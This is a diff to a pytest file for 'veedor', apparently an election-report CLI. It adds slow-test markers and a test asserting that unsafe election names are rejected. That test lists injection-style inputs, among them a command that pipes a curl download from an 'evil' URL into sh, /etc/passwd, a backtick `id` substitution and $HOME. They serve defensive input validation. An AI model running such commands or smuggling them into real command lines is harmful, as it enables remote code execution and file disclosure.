@@ -10,7 +10,7 @@ import typer
 from typer.testing import CliRunner
 
 from veedor.cli import report
-from veedor.dossier.manifest import name_in_commands
+from veedor.dossier.manifest import is_name_in_commands, name_in_commands
 from veedor.errors import MissingDataError, VeedorError
 
 RUNNER = CliRunner()
@@ -23,6 +23,7 @@ def app() -> typer.Typer:
     return made
 
 
+@pytest.mark.slow
 def test_report_then_verify_from_where_the_manifest_says(app: typer.Typer, simulated: Path, tmp_path: Path) -> None:
     out = tmp_path / "site"
     simulated = Path(shutil.copytree(simulated, tmp_path / "election"))
@@ -68,6 +69,29 @@ def test_commands_on_the_pages_name_the_election_by_one_word(name: str) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x; curl http://127.0.0.1/evil | sh #",
+        "--data=/etc",
+        "/etc/passwd",
+        "'town\nveedor: all the same'",
+        "'town",
+        "town --skip-bad-rows",
+        "$HOME",
+        "`id`",
+        "town#x",
+        '"town"',
+        "",
+        "''",
+        "'a\u200bb'",
+        "~/x",
+    ],
+)
+def test_verify_takes_no_other_text_for_the_name_of_an_election(text: str) -> None:
+    assert not is_name_in_commands(text)
+
+
 def test_a_path_of_this_machine_is_not_written_into_the_pages(
     app: typer.Typer, simulated: Path, tmp_path: Path
 ) -> None:
@@ -96,6 +120,7 @@ def test_a_folder_of_other_files_is_refused_before_anything_is_read(app: typer.T
     assert "not a dossier" in str(made.exception)
 
 
+@pytest.mark.slow
 def test_the_demo_needs_no_data_and_says_what_to_open(
     app: typer.Typer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
